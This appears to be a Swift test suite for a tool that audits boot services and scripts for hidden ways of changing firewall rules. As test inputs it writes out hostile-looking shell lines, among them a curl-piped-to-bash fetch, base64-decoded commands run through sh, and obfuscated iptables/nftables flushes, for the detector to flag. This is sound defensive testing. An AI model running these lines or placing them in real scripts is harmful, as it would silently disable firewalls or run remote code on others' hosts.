import Collectors
import Documents
import Facts
import Site
import Testing

/// What runs at boot and may change the rules without naming a program that does.
@Suite struct BootSuspicionsTests {
    private typealias Given = BootHooksTests

    private static func declared(_ more: String = "") throws -> SiteFile {
        let text = """
            schema: 1
            firewall:
              ingress: [{ proto: tcp, dport: 22, from: any, purpose: work }]
            \(more)
            """
        let source = SourceFile(name: "site.yaml", text: text)
        return try #require(SiteFile.reading([source], bounds: .none).value)
    }

    /// Why the boot layer is unknown; nil where it is known.
    private func gap(_ changes: [HostPath: GivenHost.Node]) throws -> Gap? {
        let host = BootHooksTests.host(changes)
        return FirewallLayers().gather(from: host, declared: try Self.declared()).gaps.first
    }

    private func reason(_ changes: [HostPath: GivenHost.Node]) throws -> String? {
        try gap(changes)?.sentence
    }

    // A unit that runs this script of the administrator.
    private static func script(
        _ text: String, at path: HostPath = "/opt/x"
    ) -> [HostPath: GivenHost.Node] {
        var nodes = Given.unit("[Service]\nExecStart=\(path)\n")
        nodes[path] = Given.program(text)
        return nodes
    }

    @Test func `a script that leads to more files than are followed is not known`() throws {
        var nodes = Self.script("#!/bin/sh\n" + (0..<600).map { ". /opt/p/\($0)\n" }.joined())
        for index in 0..<600 { nodes[HostPath("/opt/p/\(index)")] = Given.file("true\n") }
        #expect(try reason(nodes) == "it leads to more files than are followed")
    }

    @Test func `the last of many directories and of many names is followed`() throws {
        let directories = (0..<40).map { "/opt/d\($0)" }
        let names = (0..<100).map { "./n\($0)" }
        var nodes = Self.script(
            "#!/bin/sh\n" + (directories + names).map { "cd \($0)\n" }.joined())
        for directory in directories { nodes[HostPath(directory)] = .directory() }
        #expect(try reason(nodes) == nil)
        nodes["/opt/d39/n99"] = Given.file(Given.flush)
        #expect(try gap(nodes)?.object == "/opt/d39/n99")
    }

    @Test func `a text that is too large to be read is no machine code`() throws {
        let filler = [UInt8](repeating: UInt8(ascii: "#"), count: 5 << 20)
        var nodes = Self.script("")
        nodes["/opt/x"] = .file(Array("#!/bin/sh\n".utf8) + filler, mode: 0o755)
        let gap = try #require(try gap(nodes))
        #expect(gap.object == "/opt/x")
        #expect(gap.code == .tooLarge)
        nodes["/opt/x"] = .file([0x7F, 0x45, 0x4C, 0x46, 0] + filler, mode: 0o755)
        #expect(try reason(nodes) == nil)
    }

    @Test(arguments: [
        "for x in ip ip6; do ${x}tables -F; done", "$PREFIX/sbin/${x}tables -F",
        "/usr/sbin/ipt* -F", "/usr/sbin/n?t flush ruleset", "{ip,ip6}tables -F",
        "x=ip; x+=tables; $x -F", "a=$1; b=$2; $a$b -F", "X=$a$b\n$X -F", "/usr/sbin/$1 -F",
        "$'\\x6eft' flush ruleset", "T=${x}tables\n$T -F",
    ])
    func `a name that is put together may be that of a program`(line: String) throws {
        #expect(
            try gap(Self.script("#!/bin/sh\n\(line)\n"))?.sentence
                == "it puts a program's name together from parts, and that may be one that changes the rules"
        )
    }

    @Test(arguments: [
        "\"ip\"tables -F", "i\\ptables -F", "n'f't flush ruleset", "sh -c 'n\"ft\" flush ruleset'",
        "ip\\\ntables -F",
    ])
    func `quotes do not hide a name`(line: String) throws {
        #expect(
            try reason(Self.script("#!/bin/sh\n\(line)\n"))
                == "it names a program that changes the rules, and what it does is not followed")
    }

    @Test(arguments: [
        "eval \"$RULES\"", "echo bmZ0IGZsdXNoIHJ1bGVzZXQK | base64 -d | sh", "$(rev /opt/y) -F",
        "curl -s https://host.invalid/x | bash", "sh -c \"$1\"", ". \"$1\"",
        "bash <(base64 -d /opt/y)", "base64 -d /opt/y | python3 -",
        "X=`printf tfn | rev`\n$X flush ruleset",
    ])
    func `text that is made when it runs is not known`(line: String) throws {
        #expect(
            try reason(Self.script("#!/bin/sh\n\(line)\n"))
                == "it runs text that only exists when it runs")
    }

    @Test(arguments: [
        "DAEMON=/usr/bin/d\nexec $DAEMON --log \"$LOG/$NAME.log\" \"$@\"",
        "tar czf /var/backups/$(date +%F).tgz /srv/*", "JAVA=$(which java)\n\"$JAVA\" -jar /opt/x.jar",
        "HERE=$(dirname \"$0\")\n. \"$HERE/lib.sh\"\n\"$HERE/bin/run\" $*",
        "find /srv -name '*.tmp' | xargs rm -f", "echo 'it uses nftables and eval'",
        "[ -x /usr/bin/y ] && for f in a b; do echo $f; done", "tc qdisc add dev eth0 root fq",
        "ip link set dev eth0 up", "case $1 in\nstart) : ;;\nesac", "# eval nft",
        "psql -c \"SELECT $1\"", "php-fpm --nodaemonize", "python3 /opt/app/main.py --port $PORT",
        "i=$((i + 1))\ncat <<EOF\nx\nEOF",
    ])
    func `an ordinary script is silent`(line: String) throws {
        #expect(try reason(Self.script("#!/bin/sh\n\(line)\n")) == nil)
    }

    @Test(arguments: ["/opt/hooks/*", "/opt/hooks/$x", "run-parts /opt/hooks"])
    func `any file of a directory that may be run is followed`(words: String) throws {
        var nodes = Self.script("#!/bin/sh\n\(words)\n")
        nodes["/opt/hooks/a"] = Given.program("#!/bin/sh\ntrue\n")
        #expect(try reason(nodes) == nil)
        nodes["/opt/hooks/b"] = Given.program(Given.flush)
        #expect(try gap(nodes)?.object == "/opt/hooks/b")
    }

    @Test(arguments: ["cd /opt/lib; sh y", "PATH=/opt/lib:$PATH\ny", ". /opt/lib/$1"])
    func `a name without a directory is looked for where the text says`(line: String) throws {
        var nodes = Self.script("#!/bin/sh\n\(line)\n")
        nodes["/opt/lib/y"] = Given.program(Given.flush)
        #expect(try gap(nodes)?.object == "/opt/lib/y")
    }

    @Test(arguments: [
        ("import nftables", true), ("from iptc import Chain", true),
        ("subprocess.run(['nft', 'flush', 'ruleset'])", true),
        ("subprocess.run([\"ip\" + \"tables\", \"-F\"])", true),
        ("subprocess.run([f\"/usr/sbin/{x}tables\", \"-F\"])", true),
        ("os.system(\"%stables -F\" % x)", true), ("exec(open('/opt/y').read())", true),
        ("os.system(base64.b64decode(b'bmZ0'))", true), ("import rules", true),
        ("import json, os, base64", false), ("cursor.exec(\"SELECT %s\" % x)", false),
        ("re.sub('{x}', \"%s\" % y, z)", false),
    ])
    func `a program of python is read for what it may do`(line: String, isSuch: Bool) throws {
        var nodes = Self.script("#!/usr/bin/python3\n\(line)\n")
        nodes["/opt/rules.py"] = Given.file("RULES = 'nft flush ruleset'\n")
        #expect(try (reason(nodes) != nil) == isSuch)
    }

    @Test func `a program under another name is known by where its link leads`() throws {
        var nodes = Given.unit("[Service]\nExecStart=/usr/local/sbin/fw flush ruleset\n")
        nodes["/usr/local/sbin/fw"] = .link("/usr/sbin/nft")
        #expect(
            try reason(nodes) == "it is a program that changes the rules, under another name")
        nodes["/usr/sbin/iptables-save"] = .link("/usr/sbin/xtables-nft-multi")
        nodes["/usr/sbin/xtables-nft-multi"] = Given.program("\u{0}code")
        for (path, node) in Given.unit("[Service]\nExecStart=/usr/sbin/iptables-save\n") {
            nodes[path] = node
        }
        #expect(try reason(nodes) == nil)
    }

    @Test func `a copy of a program is known by its bytes or its libraries`() throws {
        var nodes = Given.unit("[Service]\nExecStart=/opt/fw flush ruleset\n")
        nodes["/opt/fw"] = Given.program("\u{7F}ELF\u{0}libc.so.6\u{0}")
        #expect(try reason(nodes) == nil)
        nodes["/opt/fw"] = Given.program("\u{7F}ELF\u{0}libnftables.so.1\u{0}")
        #expect(
            try reason(nodes) == "it is a program that changes the rules, under another name")
        for (path, node) in Given.unit("[Service]\nExecStart=/usr/bin/fw flush ruleset\n") {
            nodes[path] = node
        }
        nodes["/usr/sbin/nft"] = Given.program("\u{7F}ELF\u{0}x")
        nodes["/usr/bin/fw"] = Given.program("\u{7F}ELF\u{0}y")
        #expect(try reason(nodes) == nil)
        nodes["/usr/bin/fw"] = Given.program("\u{7F}ELF\u{0}x")
        #expect(
            try reason(nodes) == "it is a program that changes the rules, under another name")
    }

    @Test(arguments: [true, false])
    func `only what a package brought is taken at its word`(isListed: Bool) throws {
        var nodes = Given.unit("[Service]\nExecStart=/usr/bin/own\n")
        nodes["/usr/bin/own"] = Given.program("#!/bin/sh\neval \"$X\"\n")
        nodes["/var/lib/dpkg/info/own.list"] = Given.file(isListed ? "/bin/own\n" : "/bin/other\n")
        #expect(try (reason(nodes) == nil) == isListed)
    }

    @Test(arguments: [
        "/usr/sbin/tc filter add dev eth0 ingress bpf obj /opt/x.o", "/sbin/ip link set eth0 xdp obj /x",
    ])
    func `programs that see packets before the rules are not followed`(line: String) throws {
        #expect(
            try reason(Given.unit("[Service]\nExecStart=\(line)\n"))
                == "it attaches programs that see packets before the rules, and may drop or redirect them"
        )
    }
}
